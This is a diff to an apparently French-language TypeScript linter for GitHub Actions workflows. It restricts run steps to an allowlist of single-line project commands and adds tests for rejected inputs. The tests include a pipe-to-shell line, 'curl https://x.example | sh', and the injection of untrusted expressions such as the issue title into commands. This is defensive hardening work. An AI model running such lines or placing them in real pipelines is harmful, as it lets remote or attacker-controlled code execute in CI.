@@ -28,6 +28,10 @@ const DROITS: Record<string, string[]> = {
 /** Ceux qui lisent le code d’une proposition : ils n’écrivent rien. */
 const LISENT_UNE_PROPOSITION = ['verifier.yml']
 
+/** Une commande du projet, d’une ligne : un script qu’un essai lance aussi. */
+const COMMANDE =
+  /^(?:npm ci|npm run [\w-]+(?: -- [\w ./=-]+)?|node scripts\/[\w/-]+\.ts(?: [\w ./-]+)?|\.ci\/run)$/
+
 function fautes(nom: string, texte: string): string[] {
   const travaux = parse(texte) as Travaux
   const etapes = Object.values(travaux.jobs).flatMap(({ steps }) => steps)
@@ -42,6 +46,8 @@ function fautes(nom: string, texte: string): string[] {
   for (const { uses, run = '', with: options = {} } of etapes) {
     if (uses !== undefined && !/^actions\/[\w-]+@[\da-f]{40}$/.test(uses))
       dit.push(`action sans empreinte : ${uses}`)
+    if (run.trim().includes('\n') || (run && !COMMANDE.test(run)))
+      dit.push(`pas une commande du projet : ${run}`)
     if (/\$\{\{/.test(run)) dit.push(`une expression dans une commande : ${run}`)
     if (uses?.startsWith('actions/checkout@') && ('ref' in options || 'repository' in options))
       dit.push('va chercher un autre code que le sien')
@@ -98,6 +104,12 @@ jobs:
       bon.replace('npm ci', 'echo ${{ github.event.issue.title }}'),
       'une expression',
     ],
+    [
+      'des lignes de commande',
+      bon.replace('run: npm ci', 'run: |\n          npm ci\n          npm test'),
+      'pas une commande',
+    ],
+    ['une commande d’ailleurs', bon.replace('npm ci', 'curl https://x.example | sh'), 'pas une commande'],
     ['une branche dans une commande', bon.replace('npm ci', 'echo ${{ github.head_ref }}'), 'une expression'],
     [
       'le droit d’écrire',
